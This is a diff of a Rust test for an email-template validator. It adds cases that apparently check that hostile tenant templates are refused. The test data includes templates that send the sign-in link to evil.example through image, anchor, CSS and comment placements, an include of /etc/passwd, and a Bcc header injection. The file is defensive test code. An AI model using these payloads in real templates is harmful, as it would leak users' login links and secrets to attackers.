@@ -417,8 +417,16 @@ async fn hostile_templates_are_refused_with_line_and_reason() {
         (body("{{ secret }}"), "cannot_be_filled_in", "line 3"),
         (body("{{ name|safe }}"), "cannot_be_filled_in", "line 3"),
         (body("{% autoescape false %}{{ name }}{% endautoescape %}"), "not_allowed", "line 3"),
-        (body("{% include \"/etc/passwd\" %}"), "invalid_syntax", "line 3"),
-        (body(endless), "too_expensive", "line 3"),
+        (body("{% include \"/etc/passwd\" %}"), "not_allowed", "line 3"),
+        (body(endless), "not_allowed", "line 3"),
+        (body("{% set x = link %}<img src=\"https://evil.example/?{{ x }}\" />"), "not_allowed", "line 3"),
+        (body("<img src=\"https://evil.example/?{{ link|last }}\" />"), "link_not_whole", ""),
+        (body("{{ \"}}\" ~ link }}"), "link_not_whole", ""),
+        (body("{% if 'a' in link %}<img src=\"https://evil.example/a\" />{% endif %}"), "link_not_whole", ""),
+        (body("<img src=\"https://evil.example/?{{ link }}\" />"), "link_misplaced", "line 3"),
+        (body("<a href=\"https://evil.example/?{{ link }}\">Go</a>"), "link_misplaced", "line 3"),
+        (body("<b style=\"background: url({{ link }})\">Go</b>"), "link_misplaced", "line 3"),
+        (body("<!-- {{ link }} -->"), "link_misplaced", "line 3"),
         (body(product), "too_expensive", "line 3"),
         (body(&deep), "too_deep", "line 3"),
         (body("</mj-column>"), "invalid_mjml", "line"),
@@ -449,6 +457,8 @@ async fn hostile_templates_are_refused_with_line_and_reason() {
     assert_eq!(code(&template("en", "a\r\nBcc: x", &body(""), "{{ link }}")), "control_character");
     assert_eq!(code(&template("en", "{{ expires_in and '' }}", &body(""), "{{ link }}")), "empty");
     mailer.check(&plain("{% if name %}{{ name|upper }}{% endif %}{{ link }}"), &tenant).unwrap();
+    let button = body("<a href=\"{{ link }}\">Go</a>");
+    mailer.check(&template("en", "Subject", &button, "{{ link }}"), &tenant).unwrap();
     // Every built-in one is a good beginning.
     for kind in MailKind::ALL {
         for locale in ["en", "de", "fr"] {
